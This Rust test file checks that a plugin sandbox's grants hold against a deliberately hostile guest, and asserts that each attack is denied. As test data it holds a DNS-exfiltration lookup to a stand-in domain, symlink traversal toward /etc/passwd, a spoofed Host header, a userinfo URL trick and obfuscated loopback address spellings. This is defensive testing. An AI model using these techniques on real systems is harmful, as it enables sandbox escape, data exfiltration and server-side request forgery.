//! Network and filesystem grants hold against links, name lookups and URL
//! tricks. The attacks are a real guest (`hostile-grants`); each sits beside
//! a granted control that does the same thing legitimately, so a test cannot
//! pass just because the feature is broken.

mod common;

use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};

use common::*;
use serde_json::Value;

/// A pipeline of `hostile-grants` stages, run once.
struct Run {
    report: Value,
    log: String,
}

impl Run {
    fn of(name: &str, stages: &[(&str, String)]) -> (Project, Run) {
        let hg = plugin_lines("hostile-grants");
        let mut p = header(name);
        for (stage, body) in stages {
            p.push_str(&format!("[stages.{stage}]\n{hg}{body}\n\n"));
        }
        let project = Project::new(&p);
        let (_, report, out) = project.run(&["--jobs", "8"]);
        let log = stderr(&out);
        (project, Run { report, log })
    }

    fn status(&self, name: &str) -> String {
        stage(&self.report, name)["status"]
            .as_str()
            .unwrap_or("")
            .to_string()
    }

    fn reason(&self, name: &str) -> String {
        stage(&self.report, name)["reason"]
            .as_str()
            .unwrap_or("")
            .to_string()
    }

    fn outputs(&self, name: &str) -> Value {
        stage(&self.report, name)["outputs"].clone()
    }

    fn passed(&self, name: &str) {
        assert_eq!(
            self.status(name),
            "passed",
            "stage `{name}`: {}\n{}",
            self.reason(name),
            self.log
        );
    }

    fn failed(&self, name: &str) -> String {
        assert_eq!(
            self.status(name),
            "failed",
            "stage `{name}` should have been stopped: {:#}",
            stage(&self.report, name)
        );
        self.reason(name)
    }
}

/// A TOML string literal.
fn q(s: &str) -> String {
    format!("{s:?}")
}

/// An HTTP/1.1 server on 127.0.0.1 that answers every request with the
/// `Host` header it received, and records every request head.
fn host_echo_server() -> (u16, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let heads = Arc::new(Mutex::new(Vec::new()));
    let seen = heads.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let seen = seen.clone();
            std::thread::spawn(move || {
                let mut reader = BufReader::new(&stream);
                let mut head = String::new();
                let mut line = String::new();
                while reader.read_line(&mut line).map(|n| n > 0).unwrap_or(false) {
                    head.push_str(&line);
                    if line == "\r\n" {
                        break;
                    }
                    line.clear();
                }
                let host = head
                    .lines()
                    .filter_map(|l| l.split_once(':'))
                    .filter(|(k, _)| k.eq_ignore_ascii_case("host"))
                    .map(|(_, v)| v.trim().to_string())
                    .collect::<Vec<_>>()
                    .join(",");
                seen.lock().unwrap().push(head);
                let reply = format!(
                    "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{host}",
                    host.len()
                );
                let mut s = &stream;
                let _ = s.write_all(reply.as_bytes());
            });
        }
    });
    (port, heads)
}

/// 19.3: a `tcp` grant no longer lets a plugin resolve any name; lookups
/// are granted by name. `localhost` is answered from /etc/hosts, so its
/// denial shows the gate refuses before resolving, not that DNS failed.
#[test]
fn name_lookups_are_granted_by_name_only() {
    let tcp = tcp_listener();
    let lookup = |name: &str, grants: &str| {
        format!(
            "with = {{ behavior = \"lookup\", name = {} }}\ngrants = {{ {grants} }}",
            q(name)
        )
    };
    let any_tcp = format!("tcp = [\"127.0.0.1:{tcp}\"]");
    let (_p, run) = Run::of(
        "lookups",
        &[
            ("tcp-only", lookup("localhost", &any_tcp)),
            (
                "exfil",
                lookup(
                    "c2VjcmV0.exfil.example.test",
                    &format!("{any_tcp}, lookup = [\"db.internal\"]"),
                ),
            ),
            ("no-grants", lookup("localhost", "")),
            ("granted", lookup("localhost", "lookup = [\"localhost\"]")),
            (
                "tcp-names-localhost",
                lookup("localhost", "tcp = [\"localhost:5432\"]"),
            ),
            ("literal", lookup("127.0.0.1", &any_tcp)),
        ],
    );
    for denied in ["tcp-only", "exfil", "no-grants"] {
        let reason = run.failed(denied);
        assert!(reason.contains("lookup of"), "{denied}: {reason}");
    }
    for granted in ["granted", "tcp-names-localhost", "literal"] {
        run.passed(granted);
        let addresses = run.outputs(granted)["addresses"].to_string();
        assert!(addresses.contains("127.0.0.1"), "{granted}: {addresses}");
    }
}

/// 19.6: links an earlier stage plants do not widen a later stage's grants,
/// and a granted directory that is itself a link is judged by where it lands.
#[test]
fn links_do_not_carry_grants_outside_the_granted_tree() {
    let scratch = tempfile::tempdir().unwrap();
    let elsewhere = scratch.path().join("elsewhere");
    std::fs::create_dir_all(elsewhere.join("deeper")).unwrap();
    std::fs::write(elsewhere.join("secret.txt"), "outside").unwrap();

    let hg = plugin_lines("hostile-grants");
    let stages: Vec<(&str, String)> = vec![
        (
            "plant",
            "with = { behavior = \"symlink\", dir = \"rw\", target = \"../../../../../../../../../etc\", link = \"sub\" }\ngrants = { fs = { write = [\"rw\"] } }"
                .to_string(),
        ),
        (
            "plant-out",
            format!(
                "with = {{ behavior = \"symlink\", dir = \"rw\", target = {}, link = \"out\" }}\ngrants = {{ fs = {{ write = [\"rw\"] }} }}",
                // Relative, as a guest can write it: up to `/`, then down.
                q(&format!("../../../../../../../../..{}", elsewhere.display()))
            ),
        ),
        (
            "plant-inside",
            "with = { behavior = \"symlink\", dir = \"rw\", target = \"releases/v1\", link = \"current\" }\ngrants = { fs = { write = [\"rw\"] } }".to_string(),
        ),
        // Attacks, after the links are planted.
        (
            "read-through-link",
            "needs = [\"plant\"]\nwith = { behavior = \"read-file\", path = \"rw/sub/passwd\" }\ngrants = { fs = { read = [\"rw/sub\"] } }".to_string(),
        ),
        (
            "write-below-link",
            "needs = [\"plant-out\"]\nwith = { behavior = \"write-file\", path = \"rw/out/deeper/pwned.txt\", text = \"x\" }\ngrants = { fs = { write = [\"rw/out/deeper\"] } }".to_string(),
        ),
        (
            "granted-dir-is-link",
            "with = { behavior = \"read-file\", path = \"linked/secret.txt\" }\ngrants = { fs = { read = [\"linked\"] } }".to_string(),
        ),
        (
            "inside-grant-through-link",
            "needs = [\"plant\"]\nwith = { behavior = \"read-file\", path = \"rw/sub/passwd\" }\ngrants = { fs = { read = [\"rw\"] } }".to_string(),
        ),
        // Controls: a link that stays inside, and the plain grant.
        (
            "link-inside",
            "needs = [\"plant-inside\"]\nwith = { behavior = \"read-file\", path = \"rw/current/ok.txt\" }\ngrants = { fs = { read = [\"rw/current\"] } }".to_string(),
        ),
        (
            "plain",
            "needs = [\"plant\", \"plant-out\"]\nwith = { behavior = \"read-file\", path = \"rw/ok.txt\" }\ngrants = { fs = { read = [\"rw\"] } }".to_string(),
        ),
    ];
    let mut p = header("links");
    for (name, body) in &stages {
        p.push_str(&format!("[stages.{name}]\n{hg}{body}\n\n"));
    }
    let project = Project::new(&p);
    let rw = project.path().join("rw");
    std::fs::create_dir_all(rw.join("releases/v1")).unwrap();
    std::fs::write(rw.join("ok.txt"), "inside").unwrap();
    std::fs::write(rw.join("releases/v1/ok.txt"), "release").unwrap();
    std::os::unix::fs::symlink(&elsewhere, project.path().join("linked")).unwrap();
    let (_, report, out) = project.run(&["--jobs", "8"]);
    let run = Run {
        report,
        log: stderr(&out),
    };

    for planted in ["plant", "plant-out", "plant-inside"] {
        run.passed(planted);
    }
    let reason = run.failed("read-through-link");
    assert!(
        !run.outputs("read-through-link")
            .to_string()
            .contains("root:")
    );
    assert!(
        reason.contains("which leaves") && reason.contains("rw/sub"),
        "{reason}"
    );
    let reason = run.failed("write-below-link");
    assert!(reason.contains("which leaves"), "{reason}");
    assert!(!elsewhere.join("deeper/pwned.txt").exists());
    let reason = run.failed("granted-dir-is-link");
    assert!(reason.contains("which leaves"), "{reason}");
    assert!(
        !run.outputs("granted-dir-is-link")
            .to_string()
            .contains("outside")
    );
    run.failed("inside-grant-through-link");
    assert!(
        !run.outputs("inside-grant-through-link")
            .to_string()
            .contains("root:")
    );

    run.passed("link-inside");
    assert_eq!(run.outputs("link-inside")["content"], "release");
    run.passed("plain");
    assert_eq!(run.outputs("plain")["content"], "inside");
}

/// 23.9 and the spoofed `Host`: whatever the guest writes, `Host` is the
/// checked host and canonical port; user information is refused.
#[test]
fn the_host_header_comes_from_the_checked_destination() {
    let (port, heads) = host_echo_server();
    let grant = |host: &str| format!("grants = {{ http = [\"http://{host}:{port}\"] }}");
    let get = |url: String, headers: &str, grants: String| {
        format!(
            "with = {{ behavior = \"http\", url = {}, headers = {headers} }}\n{grants}",
            q(&url)
        )
    };
    let (_p, run) = Run::of(
        "host-header",
        &[
            (
                "userinfo",
                get(
                    format!("http://evil.example.test:80@127.0.0.1:{port}/"),
                    "[]",
                    grant("127.0.0.1"),
                ),
            ),
            (
                "zero-padded-port",
                get(
                    format!("http://127.0.0.1:0{port}/"),
                    "[]",
                    grant("127.0.0.1"),
                ),
            ),
            (
                "spoofed-host",
                get(
                    format!("http://127.0.0.1:{port}/"),
                    "[[\"Host\", \"evil.example.test\"], [\"X-Forwarded-Host\", \"evil.example.test\"]]",
                    grant("127.0.0.1"),
                ),
            ),
            (
                "granted-name",
                get(
                    format!("http://localhost:{port}/"),
                    "[]",
                    grant("localhost"),
                ),
            ),
        ],
    );

    let reason = run.failed("userinfo");
    assert!(reason.contains("user information"), "{reason}");
    run.passed("zero-padded-port");
    assert_eq!(
        run.outputs("zero-padded-port")["body"],
        format!("127.0.0.1:{port}")
    );
    run.passed("spoofed-host");
    let spoofed = run.outputs("spoofed-host");
    assert_eq!(spoofed["body"], format!("127.0.0.1:{port}"), "{spoofed}");
    assert!(
        spoofed["refused_headers"].to_string().contains("Host"),
        "{spoofed}"
    );
    run.passed("granted-name");
    assert_eq!(
        run.outputs("granted-name")["body"],
        format!("localhost:{port}")
    );

    let heads = heads.lock().unwrap();
    assert_eq!(heads.len(), 3, "{heads:#?}");
    for head in heads.iter() {
        let host_lines = head
            .lines()
            .filter(|l| l.to_ascii_lowercase().starts_with("host:"))
            .count();
        assert_eq!(host_lines, 1, "{head}");
        assert!(!head.contains("@"), "{head}");
    }
}

/// 19, the remaining URL forms: however the guest spells an address, the
/// grant is decided on the address it really is. A wildcard grant limited to
/// 10.0.0.0/8 must not reach the loopback server under any spelling; the
/// plain spelling with loopback granted is the control.
#[test]
fn url_spellings_are_judged_by_the_real_address() {
    let (port, heads) = host_echo_server();
    let wildcard_elsewhere =
        format!("grants = {{ http = [\"http://*:{port}\"], addresses = [\"10.0.0.0/8\"] }}");
    let exact = format!("grants = {{ http = [\"http://127.0.0.1:{port}\"] }}");
    let get = |host: &str, grants: &str| {
        format!(
            "with = {{ behavior = \"http\", url = {}, timeout_ms = 3000 }}\n{grants}",
            q(&format!("http://{host}:{port}/"))
        )
    };
    let spellings = [
        ("decimal", "2130706433"),
        ("octal", "0177.0.0.1"),
        ("hex", "0x7f.0.0.1"),
        ("short", "127.1"),
        ("trailing-dot", "localhost."),
        ("mapped-v6", "[::ffff:127.0.0.1]"),
        ("zone-id", "[::1%25lo]"),
        ("name", "localhost"),
    ];
    let mut stages: Vec<(String, String)> = Vec::new();
    for (name, host) in spellings {
        stages.push((format!("wild-{name}"), get(host, &wildcard_elsewhere)));
        stages.push((format!("exact-{name}"), get(host, &exact)));
    }
    stages.push((
        "control".into(),
        get(
            "localhost",
            &format!("grants = {{ http = [\"http://*:{port}\"] }}"),
        ),
    ));
    stages.push(("control-exact".into(), get("127.0.0.1", &exact)));
    let borrowed: Vec<(&str, String)> = stages
        .iter()
        .map(|(n, b)| (n.as_str(), b.clone()))
        .collect();
    let (_p, run) = Run::of("url-forms", &borrowed);

    for (name, _) in spellings {
        run.failed(&format!("wild-{name}"));
        // The exact grant names 127.0.0.1; a different spelling is not it.
        // (`mapped-v6` is 127.0.0.1 too, but a different host string.)
        run.failed(&format!("exact-{name}"));
    }
    run.passed("control");
    run.passed("control-exact");
    let heads = heads.lock().unwrap();
    assert_eq!(heads.len(), 2, "only the controls may arrive: {heads:#?}");
}
